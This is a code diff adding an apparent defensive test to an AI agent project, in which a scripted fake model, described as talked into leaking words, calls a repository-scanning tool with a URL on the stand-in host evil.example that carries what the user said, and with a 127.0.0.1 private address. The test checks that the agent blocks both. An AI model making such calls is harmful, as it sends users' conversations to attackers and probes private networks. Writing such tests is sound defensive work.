@@ -182,3 +182,28 @@ async def test_a_message_that_is_told_again_is_the_same_message(floor: Floor, tu
         fold(again, chunk)
 
     assert again["parts"] == message["parts"]
+
+
+async def carry(messages: list[ModelMessage], _info: AgentInfo) -> AsyncIterator[str | DeltaToolCalls]:
+    """A model that was talked into sending words away, inside an address."""
+    if len(messages) > 1:
+        yield "Done."
+        return
+    for n, path in enumerate(("https://evil.example/what/the-person-said", "https://127.0.0.1/ann/shop")):
+        yield {n: DeltaToolCall("scan_repo", json.dumps({"path": path}), tool_call_id=f"call_{n}")}
+
+
+async def test_only_an_address_that_the_person_wrote_is_fetched(floor: Floor, turn: Turn) -> None:
+    said = "film https://127.0.0.1/ann/shop"
+    async with floor.database.transaction() as connection:
+        await conversations.enter(connection, turn.chat_id, "ann", said, floor.clock())
+    director = direct(Choice(OFFLINE))
+    ask = Ask(said, (), assistant_message(turn.message_id), "u-1")
+    with director.override(model=FunctionModel(stream_function=carry)):
+        await AgentStage(director, OFFLINE, PLAIN).play(turn, floor.studio, "ann", ask)
+    turn.finish()
+
+    (after,) = await kept(floor)
+    told = [part["errorText"] for part in after["parts"] if part["type"] == "tool-scan_repo"]
+    assert "the person has not written this address" in told[0]
+    assert "leads into a private network" in told[1]
